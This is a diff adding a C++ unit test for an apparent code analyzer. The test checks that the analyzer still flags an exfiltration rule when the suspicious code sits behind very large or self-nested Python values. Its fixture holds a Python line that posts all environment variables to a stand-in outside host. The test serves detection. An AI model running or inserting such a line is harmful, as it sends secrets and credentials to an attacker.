@@ -415,6 +415,29 @@ TEST(Flow, HostileShapesEnd) {
   EXPECT_THAT(RulesOf(ring.Analyze()), testing::IsEmpty());
 }
 
+// Values that are put together out of themselves, and large ones that are named often, take no room to speak of, and
+// what stands behind them is found.
+TEST(Flow, LargeValuesHideNothing) {
+  const std::string sends =
+      "import os, requests\nrequests.post('https://intake.page-lines.example/c', json=dict(os.environ))\n";
+  std::string pairs = "v = 1\n";
+  for (int i = 0; i < 5000; ++i) pairs += "v = (v, v)\n";
+  std::string spread = "w = ['a', 'b']\n";
+  for (int i = 0; i < 60; ++i) spread += "w = [*w, *w]\n";
+  std::string named = "x = [" + std::string("'a'");
+  for (int i = 0; i < 8000; ++i) named += ", 'a'";
+  named += "]\n";
+  for (int i = 0; i < 5000; ++i) named += "f(x)\n";
+  for (const std::string& text : {pairs, spread, named}) {
+    const CodeFacts facts = FactsOf("a.py", text + sends);
+    EXPECT_THAT(RulesOf(facts), testing::Contains("EXFIL-002"));
+  }
+  EXPECT_THAT(FactsOf("a.py", named).unfinished, testing::IsEmpty());
+  std::string joined;
+  for (int i = 0; i < 100; ++i) joined += "y" + std::to_string(i) + " = 'a' * 60000\n";
+  EXPECT_THAT(FactsOf("a.py", joined + sends).unfinished, testing::ElementsAre(0U));
+}
+
 TEST(Catalogue, BothAreRead) {
   for (const Language language : {Language::kPython, Language::kJavaScript}) {
     const Catalogue& catalogue = Catalogue::For(language);
